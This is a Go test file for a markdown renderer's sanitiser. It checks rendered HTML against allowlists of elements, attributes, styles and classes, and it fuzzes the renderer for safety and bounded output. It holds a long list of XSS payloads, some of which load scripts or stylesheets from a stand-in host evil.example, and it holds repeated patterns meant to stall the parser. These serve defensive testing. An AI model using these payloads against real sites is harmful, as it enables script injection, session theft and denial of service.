package text_test

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"gantry/core/text"
)

// What may be found in a rendered text, whatever was written. This list is kept apart from that of the sanitiser on
// purpose: it is what the reader's browser may get to see.
var (
	safeElements = strings.Fields(`h1 h2 h3 h4 h5 h6 p br hr div blockquote pre details summary ul ol li dl dt dd table caption colgroup
		col thead tbody tfoot tr th td figure figcaption strong b em i u s del ins mark small sub sup abbr cite q code kbd samp var span
		a img input nav macro mention`)
	safeAttributes = strings.Fields(`class title dir lang href rel target src alt loading width height align colspan rowspan span start
		open type disabled checked id style data-id data-type data-text data-page data-include-parent data-classes data-query-props`)
	safeStyle = regexp.MustCompile(`^((width|height): \d[\d.]*(px|em|rem|%)?|text-align: (left|center|right)|vertical-align: (top|middle|bottom))$`)
	safeClass = regexp.MustCompile(`^(op-uc-[a-z0-9_-]+|language-\S+|[a-z0-9]{1,3}|mention|(work_package|user|group|version|project|wiki_page)(-mention)?|` +
		`create_work_package_link|include_wiki_page|child_pages|embedded-table)$`)
)

// holdSafe reads a rendered text as a browser does and reports what should not be there.
func holdSafe(rendered string) error {
	nodes, err := html.ParseFragment(strings.NewReader(rendered), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return err
	}
	for _, n := range nodes {
		for c := range n.Descendants() {
			if err := nodeIsSafe(c); err != nil {
				return err
			}
		}
		if err := nodeIsSafe(n); err != nil {
			return err
		}
	}
	return balanced(rendered)
}

func nodeIsSafe(n *html.Node) error {
	switch n.Type {
	case html.TextNode:
		return nil
	case html.ElementNode:
	default:
		return fmt.Errorf("a node of type %d: %q", n.Type, n.Data)
	}
	if n.Namespace != "" || !slices.Contains(safeElements, n.Data) {
		return fmt.Errorf("the element %s:%s", n.Namespace, n.Data)
	}
	for _, a := range n.Attr {
		if err := attributeIsSafe(n.Data, a); err != nil {
			return err
		}
	}
	return nil
}

func attributeIsSafe(element string, a html.Attribute) error {
	if !slices.Contains(safeAttributes, a.Key) {
		return fmt.Errorf("the attribute %s", a.Key)
	}
	switch a.Key {
	case "href", "src":
		u, err := url.Parse(a.Val)
		if err != nil || !slices.Contains([]string{"", "http", "https", "mailto", "tel", "ftp"}, u.Scheme) {
			return fmt.Errorf("the address %q", a.Val)
		}
	case "style":
		for rule := range strings.SplitSeq(a.Val, "; ") {
			if !safeStyle.MatchString(rule) {
				return fmt.Errorf("the style %q", a.Val)
			}
		}
	case "class":
		for class := range strings.FieldsSeq(a.Val) {
			if !safeClass.MatchString(class) {
				return fmt.Errorf("the class %q", class)
			}
		}
	case "id":
		if !strings.HasPrefix(a.Val, "user-content-") {
			return fmt.Errorf("the id %q", a.Val)
		}
	case "type":
		if element == "input" && a.Val != "checkbox" {
			return fmt.Errorf("an input of type %q", a.Val)
		}
	}
	return nil
}

// balanced holds that every element is closed where it should be: a text must not reach into what follows it.
func balanced(rendered string) error {
	var open []string
	for z := html.NewTokenizer(strings.NewReader(rendered)); ; {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				return fmt.Errorf("%v is left open", open)
			}
			return nil
		case html.StartTagToken:
			name, _ := z.TagName()
			if !slices.Contains([]string{"br", "hr", "img", "input", "col"}, string(name)) {
				open = append(open, string(name))
			}
		case html.EndTagToken:
			name, _ := z.TagName()
			if len(open) == 0 || open[len(open)-1] != string(name) {
				return fmt.Errorf("%s ends in %v", name, open)
			}
			open = open[:len(open)-1]
		}
	}
}

// attacks are ways to smuggle something into a page.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`, "<script\n>alert(1)</script\t>", `<script>`, `</script>`, `<<script>alert(1);//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src=x ONERROR="alert(1)">`, `<img/src=x/onerror=alert(1)>`, `<img """><script>alert(1)</script>">`,
	`<img src="javascript:alert(1)">`, `<img src="data:image/svg+xml;base64,PHN2Zy8+">`, `<img src=x srcset="javascript:alert(1) 1x">`,
	`<img src="x` + "`" + `<script>alert(1)</script>"` + "`" + `>`, `<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>`,
	`[a](javascript:alert(1))`, `[a](JaVaScRiPt:alert(1))`, `[a](java&#x0A;script:alert(1))`, `[a](&#106;avascript:alert(1))`,
	`[a](javascript&colon;alert(1))`, "[a](\x01javascript:alert(1))", `[a](vbscript:msgbox(1))`, `[a](data:text/html,<script>alert(1)</script>)`,
	`[a](<javascript:alert(1)>)`, `[a]( javascript:alert(1))`, "[a]\n\n[a]: javascript:alert(1)", `![a](javascript:alert(1))`, `<javascript:alert(1)>`,
	`[a](https://example.org/" onmouseover="alert(1))`, `[a](/b "c\" onclick=\"alert(1)")`, `![" onerror="alert(1)](/b)`,
	`<a href="javascript:alert(1)">a</a>`, `<a href=" javascript:alert(1)">a</a>`, `<a href="java	script:alert(1)">a</a>`,
	`<a href="&#x6A;avascript:alert(1)">a</a>`, `<a href="jav&#x09;ascript:alert(1)">a</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>`,
	`<a href="file:///etc/passwd">a</a>`, `<a href='x' href='javascript:alert(1)'>a</a>`, `<a xlink:href="javascript:alert(1)">a</a>`,
	`<a href="//evil.example" target="_self" rel="opener">a</a>`, `<a ping="//evil.example" download href="/a">a</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><foreignObject><iframe src=javascript:alert(1)>`, `<svg/onload=alert(1)//`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">a</math>`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`,
	`<style>*{background:url(javascript:alert(1))}</style>`, `<style>@import '//evil.example/x.css';</style>`, `<link rel=stylesheet href=//evil.example>`,
	`<p style="background:url(javascript:alert(1))">a</p>`, `<td style="width:expression(alert(1))">a</td>`, `<img style="width:100px;position:fixed;top:0">`,
	`<p style="text-align:center;background-image:url(//evil.example)">a</p>`, `<td style="text-align:\6c eft;behavior:url(x)">a</td>`,
	`<div style="position:fixed;inset:0">a</div>`, `<td style="width:1px;}*{color:red">a</td>`, `<td style="width:100000px">a</td>`, `<p style="texT-align:CENTER">a</p>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`, `<applet code="x">a</applet>`, `<frameset onload=alert(1)>`, `<portal src=javascript:alert(1)>`,
	`<form action="javascript:alert(1)"><button>a</button></form>`, `<button formaction="javascript:alert(1)">a</button>`,
	`<input type=image src=x onerror=alert(1)>`, `<input type="text" value="a">`, `<input autofocus onfocus=alert(1)>`, `<input type="CHECKBOX" onclick="x">`,
	`<select autofocus onfocus=alert(1)>`, `<textarea><script>alert(1)</script>`, `<textarea></textarea><img src=x onerror=alert(1)>`,
	`<details open ontoggle=alert(1)>`, `<marquee onstart=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`,
	`<video poster=javascript:alert(1)>`, `<body onload=alert(1)>`, `<html><head><base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`, `<isindex action=javascript:alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`, `<title><script>alert(1)</script></title>`, `<!--<img src="--><img src=x onerror=alert(1)//">`,
	`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html><script>alert(1)</script>`, `<!ENTITY x "y">`,
	`<p id="location" name="cookie">a</p>`, `<a id="__proto__" name="body">a</a>`, `<img name="getElementById">`, `<form id="x"><input name="attributes"></form>`,
	`<p class="mantine-Modal-root">a</p>`, `<div class="op-uc-p evil">a</div>`, `<pre><code class="-go">a`, `<pre><code class="language-go mantine-x">a</code></pre>`,
	`<macro class="toc" onclick="alert(1)"></macro>`, `<macro class="embedded-table" data-query-props="</macro><script>alert(1)</script>"></macro>`,
	`<mention data-id="4" data-type="user" data-text='"><script>alert(1)</script>'><script>alert(1)</script></mention>`,
	`<mention data-id="4" data-type="user" onclick="x">"><img src=x onerror=alert(1)></mention>`, `<mention data-id='4"><script>' data-type="user">a</mention>`,
	`[["><img src=x onerror=alert(1)>]]`, `[[a|<script>alert(1)</script>]]`, `[[a|"onclick=alert(1)]]`, `user:"<script>alert(1)</script>"`, `version:"&quot;><script>"`,
	"```\"onmouseover=alert(1)\na\n```", "```html\n<script>alert(1)</script>\n```", "```a b=\"c\" {.x onclick=alert(1)}\na\n```", "`<script>alert(1)</script>`",
	"# <script>alert(1)</script>", "# \" onclick=\"alert(1)\n<macro class=\"toc\"></macro>", `<h1 id="x" onclick="y"><img src=x onerror=alert(1)></h1><macro class="toc"></macro>`,
	"|<script>|\n|-|\n|</script>|", "|a|\n|:-\" onclick=x:|\n|b|", "- [x](javascript:alert(1))", "<div>\n\n[a](javascript:alert(1))\n\n</div>",
	`</div></div></div><script>alert(1)</script>`, `</td></tr></table><script>`, `<table><td><script></td></table>`, `<p></div></p>`, `<a href="/x"><table><a href="/y">`,
	`<b <script>alert(1)</script>>a</b>`, `<b/onclick=alert(1)>a</b>`, `<b onclick="alert(1)" onclick='x'>a`, `<b ` + strings.Repeat("a=b ", 1000) + `onclick=x>a</b>`,
	"<b\x00 onclick=alert(1)>a</b>", "<\x00script>alert(1)</script>", "\xff<script>\xfe", `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, `\<script>alert(1)\</script>`,
	`%3Cscript%3Ealert(1)%3C/script%3E`, "<img src=x\fonerror=alert(1)>", "<img\u00a0src=x onerror=alert(1)>", `<ｓcript>alert(1)</ｓcript>`, `<a href="ｊavascript:alert(1)">a</a>`,
}

func TestNothingHarmfulComesThrough(t *testing.T) {
	r := renderer()
	targets := text.Targets{}
	for _, attack := range attacks {
		for _, wrap := range []string{"%s", "a %s b", "> %s", "- %s", "|%s|\n|-|", "# %s", "**%s**", "[%s](/a)", "<div>%s</div>", "<table><tr><td>%s", "%s%[1]s"} {
			src := strings.ReplaceAll(strings.ReplaceAll(wrap, "%[1]s", attack), "%s", attack)
			for _, c := range []text.Context{{}, {Targets: targets, Base: "https://gantry.example.org"}} {
				if err := holdSafe(r.Render(src, c)); err != nil {
					t.Errorf("%q: %v in\n%s", src, err, r.Render(src, c))
				}
			}
		}
	}
}

// What is shown of a reference comes from other people's texts.
func TestTargetsAreEscaped(t *testing.T) {
	const evil = `"><script>alert(1)</script>`
	r, src := renderer(), `#1 [[a]] <mention data-id="4" data-type="user">@x</mention>`
	targets, err := r.Resolve(func(_ text.Kind, refs []text.Reference, into text.Targets) error {
		for _, ref := range refs {
			into[ref] = text.Target{Href: "/" + url.PathEscape(evil), Title: evil, Labels: [3]string{evil, evil, evil}}
		}
		return nil
	}, text.Source{Text: src})
	if err != nil {
		t.Fatal(err)
	}
	got := r.Render(src, text.Context{Targets: targets})
	if err := holdSafe(got); err != nil || strings.Count(got, "<a ") != 3 {
		t.Errorf("%v in\n%s", err, got)
	}
}

// hostile are patterns that make a parser work hard when they are repeated. The first ones took the parser minutes, or
// all memory, before it had its bounds; should one be lost, this test does not end.
var hostile = []struct {
	bytes    int
	patterns []string
}{
	{200_000, []string{">", "*a_", "1. ", "[a](", "[a]: b\n", "> > > > > > > > > > > > > > > > a\n", "|a|a|a|a|a|a|a|a|a|a|a|a\n", "- - a\n  ", "[a][", "***a"}},
	{10_000, []string{
		"[", "[[a", "[[a|", "[a](b \"", "](b)", "*", "*a ", "**x [a*b**c* d_e_", "~~a~", "_a_", "__a", "- a\n", "-\n", "+ ", "* * a\n", "\t", " ", "    a\n",
		"<", "<a ", "<a b=\"", "</a ", "a<!--", "a<?", "a<![CDATA[", "a<!A ", "<div>", "<div>\n", "<b>", "<p>", "<table>", "<li>", "<h1>a", "<a href=#>",
		"<script>", "<style>", "<svg>", "<!--", "<textarea>", "<title>", "<span style=\"a:b;\">", "<td style=\"width:1px;;\">", "</p>", "</table>", "<http://a>",
		"<mention ", "<mention data-id=\"1\" data-type=\"user\">", "<mention data-id=\"1\" data-type=\"user\">a</mention>", "<macro class=\"toc\">",
		"www.", "http://", "http://a(", "https://a.b/[", "a@a.", "a ", "a.b_", "&", "&amp;", "\\", "![", "[a\n", "# a\n", "#\n", "a\n===\n", "***\n", "|", "|-|\n",
		"|a|b|\n|-|-|\n|a|b|\n\n", "| a ", "`", "``a`", "```\n", "```go\na\n```\n", "~~~", "#1 ", "###1 ", "user:\"", "version#", "!#1", "\"", "'", "(", "[x] ", "- [ ] ",
		"> - ", "> 1. ", "*a\n> ", "é", "\xff", "\x00", "\r", "\r\n", "a\n", "\u2028", "🙂",
	}},
}

func TestHostileTextsEnd(t *testing.T) {
	r := text.New(text.Options{CacheBytes: 1})
	for _, h := range hostile {
		for _, pattern := range h.patterns {
			src := strings.Repeat(pattern, h.bytes/len(pattern))
			if err := balanced(r.Render(src+strings.Repeat("\na", h.bytes/20), text.Context{})); err != nil {
				t.Errorf("%q: %v", pattern, err)
			}
		}
	}
}

// A few bytes must not become a page that fills the memory.
func TestOutputStaysInProportion(t *testing.T) {
	r := text.New(text.Options{CacheBytes: 1})
	for name, src := range map[string]string{
		"short rows under a wide head": strings.Repeat("|a", 2000) + "\n" + strings.Repeat("|-", 2000) + "\n" + strings.Repeat("a\n", 20_000),
		"many tables of contents":      strings.Repeat("# a\n", 2000) + strings.Repeat("\n<macro class=\"toc\"></macro>\n", 2000),
		"one address, many links":      "[a]: " + strings.Repeat("b", 20_000) + "\n\n" + strings.Repeat("[a] ", 5000),
		"one address, many pictures":   "[a]: " + strings.Repeat("b", 20_000) + "\n\n" + strings.Repeat("![a] ", 5000),
		"many references":              strings.Repeat("#1 ", 100_000),
	} {
		if got := len(r.Render(src, text.Context{})); got > 30*len(src) {
			t.Errorf("%s: %d bytes became %d", name, len(src), got)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Add(sample)
	for _, h := range hostile {
		for _, pattern := range h.patterns {
			f.Add(strings.Repeat(pattern, 3))
		}
	}
	r := text.New(text.Options{Host: "gantry.example.org", CacheBytes: 1 << 20})
	f.Fuzz(func(t *testing.T, src string) {
		for _, c := range []text.Context{{}, {Targets: text.Targets{}}} {
			if err := holdSafe(r.Render(src, c)); err != nil {
				t.Errorf("%v in\n%s", err, r.Render(src, c))
			}
		}
		r.Mentions(src)
		if got := r.Excerpt(src, 20); len([]rune(got)) > 20 || strings.Contains(got, "\n") {
			t.Errorf("an excerpt of 20 characters is %q", got)
		}
		if err := holdSafe(strings.ReplaceAll(text.Plain(src), "<br/>", "<br>")); err != nil {
			t.Errorf("plain: %v", err)
		}
	})
}
